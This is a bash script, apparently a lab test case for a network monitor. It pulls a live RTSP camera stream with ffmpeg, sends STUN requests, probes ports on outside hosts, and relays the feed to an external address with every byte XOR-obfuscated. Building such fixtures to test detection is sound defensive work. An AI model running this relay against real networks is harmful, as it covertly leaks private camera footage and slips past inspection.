#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=p2p-hole-punch,live-relay,loopback-relay half=report tool=perl,ffmpeg camera=10.20.0.11 far=out ready=out:3478 seconds=45 parts=dns,camera-gate,recorder-gate,nas,outside-web
# Perl asks STUN, probes eight ports of two hosts outside, and passes on what ffmpeg sends it over loopback, each byte changed.
# shellcheck disable=SC2016 # perl has its own variables
if [ "$1" = out ]; then timeout 70 socat -u UDP-LISTEN:42002,bind=198.51.100.66 /dev/null & exec timeout 70 turnserver -n -L 203.0.113.66 -p 3478 -a -u lab:lab -r lab --no-cli --no-tls --no-dtls --log-file "$LAB/turn.log" --db "$LAB/turn.db" --pidfile "$LAB/turn.pid"; fi
timeout 48 perl -MSocket -MIO::Socket::INET -e '$in = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 5600, Proto => "udp"); $s = IO::Socket::INET->new(LocalPort => 0, Proto => "udp");
sub to { send($s, $_[0], 0, pack_sockaddr_in($_[2], inet_aton($_[1]))) }
for (1 .. 3) { to(pack("nnN", 1, 0, 0x2112a442) . join("", map { chr(rand 256) } 1 .. 12), "203.0.113.66", 3478); select(undef, undef, undef, 0.3); }
for (1 .. 3) { for my $p (42000 .. 42003) { to("hi", "198.51.100.66", $p); to("hi", "203.0.113.66", $p); } select(undef, undef, undef, 0.4); }
while (recv($in, $d, 2000, 0)) { to($d ^ ("\x5a" x length($d)), "198.51.100.66", 42002); }' &
sleep 3; ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 40 -c copy -f mpegts "udp://127.0.0.1:5600?pkt_size=1200"; wait; true
